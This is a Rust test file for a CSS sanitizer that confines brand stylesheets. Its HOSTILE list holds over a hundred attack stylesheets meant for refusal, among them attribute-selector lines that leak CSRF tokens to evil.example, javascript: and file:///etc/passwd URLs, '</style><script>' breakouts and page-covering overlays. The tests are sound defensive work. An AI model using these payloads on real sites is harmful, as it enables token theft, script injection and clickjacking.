//! Sheets that do no harm pass; hostile ones are refused with their place.

use std::collections::BTreeSet;

use super::*;
use crate::texts::Texts;

fn allowed() -> Vec<Origin> {
    vec![Origin::try_from("https://fonts.example".to_owned()).expect("an origin")]
}

fn caged(css: &str) -> String {
    let sheet = cage(css, &allowed()).unwrap_or_else(|faults| panic!("{css}: {faults:?}"));
    sheet
        .strip_prefix("@layer brand{")
        .and_then(|rest| rest.strip_suffix('}'))
        .unwrap_or(&sheet)
        .to_owned()
}

fn faults(css: &str) -> Vec<CssFault> {
    cage(css, &allowed()).expect_err(css)
}

fn reason(css: &str) -> CssReason {
    faults(css).remove(0).reason
}

#[test]
fn sheets_come_out_short_and_the_same() {
    for (css, wanted) in [
        ("", ""),
        ("  /* nothing */ ", ""),
        ("a { color : red ; }", "a{color:red}"),
        (
            "A > b,\n  .c  :hover { margin: 0  1px ; padding:0 }",
            "A > b,.c :hover{margin:0 1px;padding:0}",
        ),
        ("a { color: RED !important }", "a{color:RED !important}"),
        (".btn{width:calc( 1px + 2rem )}", ".btn{width:calc(1px + 2rem)}"),
        ("a/**/b{}", "a/**/b{}"),
        (
            "@media (width >= 40rem) and (prefers-color-scheme:dark){a{color:#1e3}}",
            "@media (width >= 40rem) and (prefers-color-scheme:dark){a{color:#1e3}}",
        ),
        ("@media (400px <= width < 700px){a{b:c}}", "@media (400px <= width < 700px){a{b:c}}"),
        (
            ".card { color: red; &:hover { color: blue } a:hover{ x:y } @media print { z:q } }",
            ".card{color:red;&:hover{color:blue}a:hover{x:y}@media print{z:q}}",
        ),
        (
            "@keyframes in { from { opacity:0 } 50.5% { opacity:.5 } }",
            "@keyframes in{from{opacity:0}50.5%{opacity:0.5}}",
        ),
        (":root{--Accent: #123456; --gap:}", ":root{--Accent:#123456;--gap:}"),
        (
            "li:nth-child(2n + 1)::before{content:\"\\201c\" attr(data-x)}",
            "li:nth-child(2n + 1)::before{content:\"\u{201c}\" attr(data-x)}",
        ),
        ("@layer a,b;@layer a{x{y:z}}", "@layer a,b;@layer a{x{y:z}}"),
        (
            "@font-face{src:url(https://fonts.example/f) format('woff2');\
             unicode-range:U+1E00-1EFF,U+2??}",
            "@font-face{src:url(\"https://fonts.example/f\") format(\"woff2\");\
             unicode-range:U+1E00-1EFF,U+2??}",
        ),
        (
            "a{background:url( '/brand/files/x.png?v=1' )}",
            "a{background:url(\"/brand/files/x.png?v=1\")}",
        ),
        ("svg{clip-path:url(#round)}", "svg{clip-path:url(\"#round\")}"),
        (
            "a{b:url(data:image/png;base64,iVBORw0KGgo=)}",
            "a{b:url(\"data:image/png;base64,iVBORw0KGgo=\")}",
        ),
        ("a{position:sticky;z-index:100}", "a{position:sticky;z-index:100}"),
        ("a{b:c", "a{b:c}"),
    ] {
        assert_eq!(caged(css), wanted, "{css}");
        assert_eq!(caged(wanted), wanted, "not the same the second time");
    }
}

/// Each line would load something, run something, or cover something.
const HOSTILE: &[&str] = &[
    // other sheets
    "@import url(https://evil.example/a.css);",
    "@import '/brand/other.css';",
    "@IMPORT 'x';",
    "@\\69mport 'x';",
    "a{} @import 'x';",
    "a{ @import 'x'; }",
    "@media print{@import 'x';}",
    "@charset 'utf-7';",
    "@namespace url(http://www.w3.org/1999/xhtml);",
    "@document url(http://x){a{b:c}}",
    "@-moz-document url-prefix(){a{b:c}}",
    "@unknown{a{b:c}}",
    "@font-feature-values F{@swash{x:1}}",
    // addresses of others
    "a{background:url(https://evil.example/x.png)}",
    "a{background:url('https://evil.example/x.png')}",
    "a{background:URL(https://evil.example/x.png)}",
    "a{background:u\\72l(https://evil.example/x.png)}",
    "a{background:\\75\\72\\6c(https://evil.example/x.png)}",
    "a{background:url(//evil.example/x.png)}",
    "a{background:url(\\2f\\2f evil.example/x.png)}",
    "a{background:url('\\\\evil.example/x.png')}",
    "a{background:url('/\\\\evil.example/x.png')}",
    "a{background:url('/\\9/evil.example/x.png')}",
    "a{background:url(\"\\a https://evil.example\")}",
    "a{background:url(https://fonts.example.evil.example/x)}",
    "a{background:url(https://fonts.example@evil.example/x)}",
    "a{background:url(https://user@fonts.example/x)}",
    "a{background:url(http://fonts.example/x)}",
    "a{background:url(https://fonts.example:8443/x)}",
    "a{background:url(javascript:alert(1))}",
    "a{background:url('javascript:alert(1)')}",
    "a{background:url('vbscript:x')}",
    "a{background:url(file:///etc/passwd)}",
    "a{background:url(ftp://fonts.example/x)}",
    "a{background:url(blob:https://fonts.example/x)}",
    // this site, but not a file of the brand
    "a{background:url(/sign-out)}",
    "a{background:url(x.png)}",
    "a{background:url(../invoices)}",
    "a{background:url(/brand/../invoices?page=2)}",
    "a{background:url(/brand/%2e%2e/invoices)}",
    "a{background:url(/brandy/x)}",
    "a{background:url(https://own.invalid/brand/x)}",
    "a{background:url('')}",
    "a{background:url(#)}",
    // data
    "a{background:url(data:text/html;base64,PHNjcmlwdD4=)}",
    "a{background:url(data:image/svg+xml;base64,PHN2Zy8+)}",
    "a{background:url(data:image/png;base64,PHN2Zy8+)}",
    "a{background:url('data:image/png,x')}",
    "a{background:url(DATA:text/css;base64,QUJD)}",
    "@font-face{src:url(data:font/woff2;base64,d09GMgAB)}",
    "@font-face{src:url(https://evil.example/f.woff2)}",
    "@font-face{font-family:F;src:local('x'),url('//evil.example/f')}",
    // functions that load
    "a{background:image-set('https://evil.example/x.png' 1x)}",
    "a{background:-webkit-image-set(url(/brand/x.png) 1x)}",
    "a{background:image('https://evil.example/x.png')}",
    "a{background:cross-fade(url(/brand/a.png),url(/brand/b.png))}",
    "a{background:src('https://evil.example/x.png')}",
    "a{background:src(var(--x))}",
    "a{background:url(var(--x))}",
    "a{background:url('/brand/x' crossorigin(anonymous))}",
    "a{background:paint(x)}",
    "a{background:element(#x)}",
    "a{--x:url(https://evil.example/x)}",
    "a{--x:image-set('https://evil.example/x' 1x)}",
    "a{background:var(--y,url(https://evil.example/x))}",
    "@property --x{syntax:'<image>';inherits:false;initial-value:url(//evil.example)}",
    "@counter-style c{system:cyclic;symbols:url(//evil.example/x)}",
    "@supports (background:url(//evil.example/x)){a{b:c}}",
    "@container style(--x:url(//evil.example)){a{b:c}}",
    // addresses that are written in another way
    "a{background:url(https:evil.example/x)}",
    "a{background:url(https:/evil.example/x)}",
    "a{background:url(https:\\5c\\5c evil.example/x)}",
    "a{background:url(///evil.example/x)}",
    "a{background:url('\\9//evil.example/x')}",
    "a{background:url('https://fonts.example\\@evil.example/x')}",
    "a{background:url(https://fonts.example./x)}",
    "a{background:url(ht\\9tps://evil.example/x)}",
    "a{background:url(wss://fonts.example/x)}",
    "a{background:url(filesystem:https://fonts.example/x)}",
    "a{background:url(about:blank)}",
    "a{background:url(/brand/x),url(//evil.example/x)}",
    // functions of later years, and of earlier ones
    "a{background:if(style(--x:1):url(//evil.example/x))}",
    "a{--x:if(style(--y:1):url(//evil.example/x))}",
    "a{background:attr(data-x type(<url>))}",
    "a{background:-webkit-cross-fade(url(//evil.example/a),url(/brand/b),50%)}",
    "a{background:-moz-image-rect(url(//evil.example/a),0,0,9,9)}",
    "a{background:-moz-element(#x)}",
    "a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example/x')}",
    "@function --f(){result:url(//evil.example/x)}",
    "@color-profile --p{src:url(//evil.example/p.icc)}",
    // within what is allowed
    "@media print{a{background:url(//evil.example/x)}}",
    "@layer x{a{background:url(//evil.example/x)}}",
    "@scope(a){b{background:url(//evil.example/x)}}",
    "@starting-style{a{background:url(//evil.example/x)}}",
    "@page{background:url(//evil.example/x)}",
    "@keyframes k{to{background:url(//evil.example/x)}}",
    "a{&:hover{background:url(//evil.example/x)}}",
    "a{background:image-set(url(//evil.example/x) 1x,url(/brand/x) 2x)}",
    // secrets on the page, letter by letter
    "input[name=csrf][value^=a]{background:url(https://evil.example/a)}",
    "input[value^='a' i]:not([x]){list-style-image:url(//evil.example/a)}",
    "a{cursor:url(https://evil.example/c.cur),auto}",
    "a::before{content:url(https://evil.example/x)}",
    "a{filter:url(https://evil.example/x.svg#f)}",
    "a{mask:url(https://evil.example/x.svg#m)}",
    "a{offset-path:url(https://evil.example/x.svg#p)}",
    "a{-webkit-box-reflect:below 0 url(//evil.example/x)}",
    // code
    "a{width:expression(alert(1))}",
    "a{width:expr\\65ssion(alert(1))}",
    "a{width:e/**/xpression(alert(1))}",
    "a{behavior:url(/brand/x.htc)}",
    "a{BEHAVIOR:none}",
    "a{-moz-binding:none}",
    "a{b\\65havior:none}",
    // out of the sheet, out of the layer
    "</style><script>alert(1)</script>",
    "a{}</style>",
    "a{content:x</style>}",
    "a</style{}",
    "<!-- a{b:c} -->",
    "a{b:c}}",
    "}a{b:c}",
    "a{b:c}})a{",
    "a{b:)}",
    "a{b:]x}",
    "a{--x:{position:fixed}}",
    "a{b:'x\n}",
    "a{b:url(x y)}",
    "a",
    "a;b{c:d}",
    "a{b}",
    "@media print",
    "@media print;",
    "a{@layer x{b:c}@x{}}",
    // above everything
    ".x{position:fixed;inset:0}",
    ".x{position:FIXED}",
    ".x{pos\\69tion:f\\69xed}",
    ".x{position:fixed!important}",
    ".x{position:-webkit-sticky fixed}",
    ".x{position:var(--p)}",
    ".x{position:env(x,fixed)}",
    "@keyframes k{to{position:fixed}}",
    ".x{y:z;&:hover{position:fixed}}",
    ".x{z-index:2147483647}",
    ".x{z-index:101}",
    ".x{z-index:1e9}",
    ".x{z-index:calc(99*99)}",
    ".x{z-index:var(--z)}",
    ".x{position:if(style(--x:1):fixed)}",
    ".x{position:attr(data-p)}",
    ".x{all:unset;position:fixed}",
    "dialog::backdrop{position:fixed}",
    ".x{z-index:max(1,99999)}",
    ".x{z-index:99999 !important}",
    "@media print{.x{z-index:99999}}",
    "@position-try --x{inset:0}",
    "@view-transition{navigation:auto}",
    // into the site's notices, past the layers
    "@property --text{syntax:'<length>';inherits:false;initial-value:0px}",
    "@font-face{font-family:'Inter Variable';src:local(x)}",
    "@font-face{font-family:Inter  VARIABLE;src:local(x)}",
    "@font-face{font-family:Inter\\20 Variable;src:local(x)}",
    "@media print{@font-face{font-family:'Inter Variable';src:local(x)}}",
];

#[test]
fn inj_05_no_sheet_loads_runs_or_covers_anything() {
    assert!(HOSTILE.len() >= 100, "only {}", HOSTILE.len());
    for css in HOSTILE {
        let faults = faults(css);
        assert!(!faults.is_empty(), "{css} passed");
        // The same behind something sound, and where it is said to be.
        let moved: Vec<CssFault> =
            faults.iter().map(|fault| CssFault { line: fault.line + 2, ..fault.clone() }).collect();
        if !css.starts_with('}') && !css.contains("</") && !css.contains("<!--") {
            assert_eq!(self::faults(&format!("b{{c:d}}\n\n{css}")), moved, "{css}");
        }
    }
}

#[test]
fn inj_05_nothing_ends_the_element_that_holds_a_sheet() {
    for css in [
        "a{content:'</style><script>'}",
        "a{content:\"\\3c/style>\"}",
        "a[title='</STYLE>']{b:c}",
        ".\\3c\\2fstyle\\3e{b:c}",
        "a{background:url('/brand/</style>')}",
        "a{background:url(\"https://fonts.example/</style>?</style>#</style>\")}",
        "a{font-family:\\3c\\2fstyle}",
        "@media \\3c\\2fstyle{a{b:c}}",
        "/*</style>*/a{b:c}",
    ] {
        let sheet = cage(css, &allowed()).unwrap_or_default().to_ascii_lowercase();
        assert!(!sheet.contains("</") && !sheet.contains("<!"), "{css}: {sheet}");
        assert!(!sheet.contains("<script"), "{css}: {sheet}");
    }
}

/// A token that is missing in the list could be set by a brand, on a notice or around it.
#[test]
fn inj_05_notices_keep_every_token() {
    let sheet = |name: &str| {
        crate::embedded::text::<crate::embedded::Assets>(&format!("css/{name}.css")).expect(name)
    };
    let guard = sheet("guard");
    for name in ["tokens", "alert", "staff-banner", "button", "icon", "form"] {
        let text = sheet(name);
        let declared = text.lines().filter_map(|line| line.trim().split_once(':'));
        for (token, _) in declared.filter(|(token, _)| token.starts_with("--")) {
            let line = format!("    {token}: revert-layer !important;\n");
            assert!(guard.contains(&line), "guard.css has no {token} of {name}.css");
        }
    }
}

#[test]
fn inj_05_large_and_deep_sheets_are_refused_quickly() {
    assert_eq!(reason(&"a{b:c}".repeat(11_000)), CssReason::TooLarge);
    for (open, close) in [("(", ")"), ("[", "]"), ("var(--x,", ")")] {
        let value = format!("a{{b:{}{}}}", open.repeat(5_000), close.repeat(5_000));
        assert_eq!(reason(&value), CssReason::TooDeep);
    }
    let rules = format!("{}{}", "a{".repeat(5_000), "}".repeat(5_000));
    assert_eq!(reason(&rules), CssReason::TooDeep);
    let at_rules = format!("{}{}", "@media x{".repeat(5_000), "}".repeat(5_000));
    assert_eq!(reason(&at_rules), CssReason::TooDeep);
    let many = "a{position:fixed}".repeat(3_000);
    assert_eq!(faults(&many).len(), MAX_FAULTS);
    let picture = format!("a{{b:url(data:image/gif;base64,R0lG{})}}", "AAAA".repeat(8_000));
    assert_eq!(reason(&picture), CssReason::InlinePicture);
}

#[test]
fn faults_name_their_place() {
    let faults = faults(
        "a { color: red }\n  b { behavior: x;\n      background: url(//evil.example) }\n\
         @import 'x';",
    );
    let places: Vec<_> =
        faults.iter().map(|fault| (fault.line, fault.column, fault.reason.key())).collect();
    assert_eq!(
        places,
        [(2, 7, "css-fault-property"), (3, 19, "css-fault-address"), (4, 1, "css-fault-import"),]
    );
}

#[test]
fn each_reason_has_a_text() {
    let named = || "x".to_owned();
    let reasons = [
        CssReason::TooLarge,
        CssReason::TooDeep,
        CssReason::Syntax,
        CssReason::Import,
        CssReason::AtRule(named()),
        CssReason::Function(named()),
        CssReason::Property(named()),
        CssReason::Address,
        CssReason::InlinePicture,
        CssReason::Position,
        CssReason::ZIndex,
        CssReason::SiteFont,
    ];
    let texts = Texts::load().expect("texts");
    for language in ["en", "es"] {
        let said: BTreeSet<String> = reasons
            .iter()
            .map(|reason| {
                let name = reason.name().map(|name| crate::TextArgs::new().text("name", name));
                let args = name.unwrap_or_default();
                texts.get(language, reason.key(), &args).expect("a text")
            })
            .collect();
        assert_eq!(said.len(), reasons.len());
    }
}

proptest::proptest! {
    #[test]
    fn inj_05_any_text_is_caged_or_refused(
        css in "[a-z@{}()\\[\\]:;,'\"/*<>!\\\\ #.0-9\n-]{0,200}"
    ) {
        if let Ok(sheet) = cage(&css, &allowed()) {
            let again = cage(&sheet, &allowed());
            proptest::prop_assert!(again.is_ok(), "{css:?} became {sheet:?}, which is refused");
            proptest::prop_assert!(!sheet.contains("</"));
        }
    }
}
